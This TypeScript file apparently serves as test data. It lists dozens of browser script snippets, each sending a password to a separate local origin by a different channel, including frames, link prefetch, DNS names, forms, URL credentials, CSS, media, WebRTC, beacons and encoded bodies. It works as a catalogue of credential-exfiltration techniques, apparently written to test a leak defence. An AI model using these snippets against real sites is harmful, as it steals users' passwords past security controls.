/** What scripts of the right site have to send `v`, a password, to another one: \`T(name)\` is an address there, \`OTHER\` its origin. Each in a language of its own, that of pages. */
export const WAYS_OUT: readonly (readonly [name: string, script: string])[] = [
  ['by a shared worker that was there before the login', `sw.port.postMessage({u:T('shared'),v});`],
  ['by a worker that was there before, and all that a worker has', `dw.postMessage({u:T('dedicated'),v});`],
  ['by a frame of the other site that is told it', `foreign.contentWindow.postMessage(v,'*');`],
  ['by a frame of the other site that finds it behind its #', `foreign.src=OTHER+'/listener#'+v;`],
  [
    'by links of every relation',
    `for(const rel of ['prefetch','preconnect','dns-prefetch','preload','modulepreload','icon','stylesheet','manifest','prerender','search','next','apple-touch-icon','help','alternate','canonical','subresource','pingback'])el('link',{rel,href:T('link-'+rel)+'?p='+v,as:rel==='preload'?'image':''},document.head);`,
  ],
  [
    'in names of hosts, whole and in parts',
    `const h=[...v].map(c=>c.charCodeAt(0).toString(16)).join('');
     for(const x of [v,v.toLowerCase(),h,v.slice(0,7)+'.'+v.slice(7)]){const u=OTHER.replace('127.0.0.1',x+'.localhost');el('link',{rel:'dns-prefetch',href:u},document.head);el('link',{rel:'preconnect',href:u},document.head);new Image().src=u+'/take/host'};`,
  ],
  [
    'by forms, addresses and refreshes of frames of every kind',
    `frame('<form method=post action='+T('srcdoc-form')+'><input name=p value='+v+'></form><script>document.forms[0].submit()<\\/script>');
     const b=document.createElement('iframe'); document.body.append(b);
     b.contentDocument.body.innerHTML='<form method=post action='+T('blank-form')+'><input name=p value='+v+'></form>'; b.contentDocument.forms[0].submit();
     el('iframe',{src:URL.createObjectURL(new Blob(['<form method=post action='+T('blob-form')+'><input name=p value='+v+'></form><script>document.forms[0].submit()<\\/script>'],{type:'text/html'}))});
     el('iframe',{src:'data:text/html,'+encodeURIComponent('<form method=post action='+T('data-form')+'><input name=p value='+v+'></form><script>document.forms[0].submit()<\\/script>')});
     frame('<form action='+T('srcdoc-get')+'><input name=p value='+v+'></form><script>document.forms[0].submit()<\\/script>');
     frame('<meta http-equiv=refresh content="0;url='+T('meta-refresh')+'?p='+v+'">');
     frame('<script>location="'+T('frame-location')+'?p='+v+'"<\\/script>'); frame('<base href="'+T('base')+'/'+v+'/"><img src=x>');
     el('iframe',{sandbox:'allow-scripts allow-forms',srcdoc:'<form method=post enctype=text/plain action='+T('sandbox-plain')+'><input name=p value='+v+'></form><script>document.forms[0].submit()<\\/script>'});
     el('iframe',{credentialless:'',src:T('credentialless')+'?p='+v});`,
  ],
  [
    'by a form in a blank window',
    `const w=window.open('about:blank','_blank','width=50,height=50');
     if(w){w.document.body.innerHTML='<form method=post action='+T('popup-form')+'><input name=p value='+v+'></form>';w.document.forms[0].submit()};`,
  ],
  [
    'by windows',
    `window.open(T('popup')+'?p='+v,'_blank','noopener'); window.open(OTHER.replace('//','//user:'+v+'@')+'/auth/popup','_blank');`,
  ],
  [
    'as user and password of an address',
    `el('iframe',{src:OTHER.replace('//','//user:'+v+'@')+'/auth/frame'}); new Image().src=OTHER.replace('//','//user:'+v+'@')+'/auth/img';
     q(()=>{const x=new XMLHttpRequest();x.open('GET',OTHER+'/auth/xhr',true,'user',v);x.send()});
     el('object',{data:OTHER.replace('//',('//'+v+':x@'))+'/auth/object'});`,
  ],
  [
    'by answers of the own site: redirects, Refresh, Link, reports of CSP',
    `for (const [path, method] of [['/r307', 'POST'], ['/chain', 'POST'], ['/r308', 'PUT']]) fetch(path, { method, body: v }).catch(() => 0);
     fetch('/r302', { mode: 'no-cors' }).catch(() => 0); new Image().src = '/r302'; for (const src of ['/refresh', '/link', '/csp']) el('iframe', { src });
     navigator.sendBeacon('/r307', v);`,
  ],
  [
    'by pictures in SVG',
    `svg('<image href="'+T('svg-image')+'?p='+v+'"/><use href="'+T('svg-use')+'?p='+v+'#x"/><filter id="f"><feImage href="'+T('svg-fe')+'?p='+v+'"/></filter><rect width="9" height="9" filter="url(#f)"/><style>@import url("'+T('svg-import')+'?p='+v+'")</style><foreignObject><img src="'+T('svg-fo')+'?p='+v+'"/></foreignObject><rect fill="url('+T('svg-fill')+'?p='+v+'#a)" width="3" height="3"/>');`,
  ],
  [
    'by media, objects and attribution',
    `el('video',{poster:T('poster')+'?p='+v,src:T('video')+'?p='+v,preload:'auto'}); const vid=el('video',{preload:'auto'});
     el('source',{src:T('source')+'?p='+v,type:'video/mp4'},vid); el('track',{default:'',kind:'subtitles',src:T('track')+'?p='+v},vid);
     el('audio',{src:T('audio')+'?p='+v,preload:'auto'}); el('embed',{src:T('embed')+'?p='+v}); el('object',{data:T('object')+'?p='+v});
     el('input',{type:'image',src:T('input-image')+'?p='+v}); document.body.setAttribute('background',T('background')+'?p='+v);
     el('img',{srcset:T('srcset')+'?p='+v+' 1x'}); el('img',{attributionsrc:T('attribution')+'?p='+v,src:T('attr-img')+'?p='+v});
     el('script',{src:T('script')+'?p='+v}); el('script',{attributionsrc:T('attribution-script')+'?p='+v,src:'/x.js'});
     el('video',{src:URL.createObjectURL(new Blob(['#EXTM3U\\n#EXT-X-TARGETDURATION:1\\n#EXTINF:1,\\n'+T('hls')+'?p='+v+'\\n#EXT-X-ENDLIST'],{type:'application/vnd.apple.mpegurl'})),preload:'auto'});`,
  ],
  [
    'by style sheets, fonts and worklets',
    `css('@import url("'+T('import')+'?p='+v+'");body{cursor:url("'+T('cursor')+'?p='+v+'"),auto;list-style:url("'+T('list')+'?p='+v+'");background:image-set(url("'+T('image-set')+'?p='+v+'") 1x)}h1::before{content:url("'+T('content')+'?p='+v+'")}h1{mask:url("'+T('mask')+'?p='+v+'");border-image:url("'+T('border')+'?p='+v+'") 1}@font-face{font-family:zz;src:url("'+T('font')+'?p='+v+'")}h1{font-family:zz}');
     q(()=>new FontFace('yy','url('+T('fontface')+'?p='+v+')').load()); q(()=>CSS.paintWorklet.addModule(T('paint')+'?p='+v));
     q(()=>new AudioContext().audioWorklet.addModule(T('audio-worklet')+'?p='+v));
     css('input[id=password]{--x:url("'+T('var')+'?p='+v+'");background:var(--x)}');`,
  ],
  [
    'by links that are clicked: ping, download, attribution',
    `const a=el('a',{href:'#x',ping:T('ping')+'?p='+v}); a.textContent='x'; a.click(); const d=el('a',{href:T('download')+'?p='+v,download:v+'.txt'});
     d.click(); const n=el('a',{href:T('anchor')+'?p='+v,target:'_blank',rel:'noopener'}); n.click();
     const at=el('a',{href:'#y',attributionsrc:T('a-attribution')+'?p='+v}); at.click();`,
  ],
  [
    'in methods, types and headers',
    `for(const m of ['PUT','PATCH','DELETE'])fetch(T('m-'+m),{method:m,body:v}).catch(()=>0); fetch(T('method-name'),{method:v}).catch(()=>0);
     fetch(T('head')+'?p='+v,{method:'HEAD',mode:'no-cors'}).catch(()=>0);
     fetch(T('ct'),{method:'POST',mode:'no-cors',headers:{'content-type':'text/plain;x='+v},body:'a'}).catch(()=>0);
     fetch(T('lang'),{mode:'no-cors',headers:{'accept-language':v.toLowerCase()}}).catch(()=>0);
     fetch(T('accept'),{mode:'no-cors',headers:{'accept':'text/'+v}}).catch(()=>0); fetch(T('range'),{headers:{range:'bytes=0-1',dpr:v}}).catch(()=>0);`,
  ],
  [
    'in a body that flows',
    `fetch(T('stream'),{method:'POST',duplex:'half',body:new ReadableStream({start(c){c.enqueue(new TextEncoder().encode(v));c.close()}})}).catch(()=>0);`,
  ],
  [
    'in the Referer',
    `history.replaceState(null,'','?p='+v); fetch(T('referer'),{mode:'no-cors',referrerPolicy:'unsafe-url'}).catch(()=>0);
     el('img',{referrerpolicy:'unsafe-url',src:T('referer-img')}); el('iframe',{referrerpolicy:'unsafe-url',src:T('referer-frame')});`,
  ],
  [
    'by sockets and event sources',
    `new WebSocket(OTHER.replace('http','ws')+'/take/ws',[v]); new EventSource(T('es')+'?p='+v);
     q(()=>new WebSocketStream(OTHER.replace('http','ws')+'/take/wss'));`,
  ],
  [
    'by WebRTC',
    `const pc=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:'+new URL(OTHER).port},{urls:'turn:127.0.0.1:'+new URL(OTHER).port+'?transport=tcp',username:v,credential:v}]});
     pc.createDataChannel(v); pc.createOffer().then(o=>pc.setLocalDescription(o));`,
  ],
  [
    'by speculation rules',
    `const s=document.createElement('script'); s.type='speculationrules';
     s.textContent=JSON.stringify({prefetch:[{source:'list',urls:[T('spec-prefetch')+'?p='+v],eagerness:'immediate'}],prerender:[{source:'list',urls:[T('spec-prerender')+'?p='+v],eagerness:'immediate'}]});
     document.head.append(s);`,
  ],
  [
    'by a payment method',
    `const pr=new PaymentRequest([{supportedMethods:T('payment')+'?p='+v}],{total:{label:'x',amount:{currency:'EUR',value:'1'}}});
     pr.canMakePayment().catch(()=>0); q(()=>pr.hasEnrolledInstrument()); q(()=>pr.show());`,
  ],
  [
    'by imports of modules',
    `import(T('dynamic')+'?p='+v).catch(()=>0); import(T('json')+'?p='+v,{with:{type:'json'}}).catch(()=>0); const m=document.createElement('script');
     m.type='module'; m.textContent='import "'+T('module')+'?p='+v+'"'; document.head.append(m);`,
  ],
  [
    'by XML: style sheets and entities',
    `el('iframe',{src:URL.createObjectURL(new Blob(['<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="'+T('xslt')+'?p='+v+'"?><a/>'],{type:'text/xml'}))});
     el('iframe',{src:URL.createObjectURL(new Blob(['<?xml version="1.0"?><?xml-stylesheet type="text/css" href="'+T('xmlcss')+'?p='+v+'"?><a/>'],{type:'text/xml'}))});
     el('iframe',{src:URL.createObjectURL(new Blob(['<!DOCTYPE a [<!ENTITY x SYSTEM "'+T('xxe')+'?p='+v+'">]><a>&x;</a>'],{type:'text/xml'}))});`,
  ],
  [
    'by what browsers fetch for themselves',
    `q(()=>navigator.mediaSession.metadata=new MediaMetadata({title:v,artwork:[{src:T('artwork')+'?p='+v}]}));
     q(()=>new Notification(v,{icon:T('notification')+'?p='+v}));
     q(()=>navigator.credentials.store(new PasswordCredential({id:'a',password:v,iconURL:T('cred-icon').replace('http:','https:')})));
     q(()=>navigator.credentials.get({mediation:'conditional',publicKey:{challenge:new Uint8Array(9),rpId:v.toLowerCase()+'.localhost'}}));
     q(()=>navigator.identity&&navigator.credentials.get({identity:{providers:[{configURL:T('fedcm')+'?p='+v,clientId:v}]}}));
     q(()=>new PresentationRequest(T('presentation')+'?p='+v).getAvailability()); q(()=>navigator.registerProtocolHandler('web+x',OWN+'/?%s'));
     q(()=>navigator.serviceWorker.ready.then(r=>r.backgroundFetch.fetch('a',T('bgfetch')+'?p='+v)));
     q(()=>navigator.joinAdInterestGroup({owner:OTHER,name:v,biddingLogicURL:T('ad')+'?p='+v},99));
     q(()=>fetch(T('token')+'?p='+v,{privateToken:{version:1,operation:'token-request'}})); q(()=>fetchLater(T('later')+'?p='+v));
     q(()=>navigator.sendBeacon(T('beacon'),new Blob([v],{type:'text/plain'}))); q(()=>new Audio(T('newaudio')+'?p='+v).load());
     q(()=>caches.open('x').then(c=>c.add(new Request(T('cache')+'?p='+v,{mode:'no-cors'})))); q(()=>createImageBitmap(new Blob([v])));
     q(()=>document.fonts.load('12px zz')); q(()=>navigator.share&&navigator.share({url:T('share')+'?p='+v}));
     q(()=>window.sharedStorage&&sharedStorage.createWorklet(T('ss')+'?p='+v)); q(()=>document.execCommand('insertImage',false,T('exec')+'?p='+v));
     q(()=>{const d=new DOMParser().parseFromString('<img src="'+T('parser')+'?p='+v+'">','text/html');document.body.append(document.importNode(d.body.firstChild,true))});`,
  ],
  [
    'as the page is left',
    `addEventListener('pagehide',()=>{navigator.sendBeacon(T('pagehide'),v);fetch(T('ka'),{method:'POST',keepalive:true,mode:'no-cors',body:v}).catch(()=>0);try{const x=new XMLHttpRequest();x.open('POST',T('sync'),false);x.send(v)}catch{}});
     addEventListener('beforeunload',()=>{new Image().src=T('beforeunload')+'?p='+v});
     document.addEventListener('visibilitychange',()=>navigator.sendBeacon(T('visibility'),v));`,
  ],
  [
    'packed and written again',
    `(async()=>{for(const f of ['gzip','deflate','deflate-raw'])for(const e of [(b)=>b,(b)=>b.toBase64(),(b)=>b.toHex(),(b)=>JSON.stringify([...b]),(b)=>b.toBase64().split('').reverse().join('')]){const b=new Uint8Array(await new Response(new Blob(['{"a":"'+v+'"}']).stream().pipeThrough(new CompressionStream(f))).arrayBuffer());fetch(T('packed-'+f),{method:'POST',mode:'no-cors',body:e(b)}).catch(()=>0)}})();`,
  ],
  [
    'spelled in numbers',
    `const c=[...v].map(x=>x.charCodeAt(0));
     for(const [n,b] of Object.entries({codes:JSON.stringify(c),dash:c.join('-'),rev:[...v].reverse().join(''),chars:JSON.stringify([...v]),upper:v.toUpperCase(),hexs:c.map(x=>x.toString(16)).join(' '),oct:c.map(x=>x.toString(8)).join('.'),bin:c.map(x=>x.toString(2).padStart(8,'0')).join(''),u32:new Uint32Array(c),typed:JSON.stringify(new Uint8Array(c)),qp:c.map(x=>'='+x.toString(16)).join(''),xml:'<a>'+[...v].map(x=>'&#'+x.charCodeAt(0)+';').join('')+'</a>'}))fetch(T('spelled-'+n),{method:'POST',mode:'no-cors',body:b}).catch(()=>0);`,
  ],
  ['in the name of a window', `window.name=v; el('iframe',{name:v,src:OTHER+'/listener'});`],
];
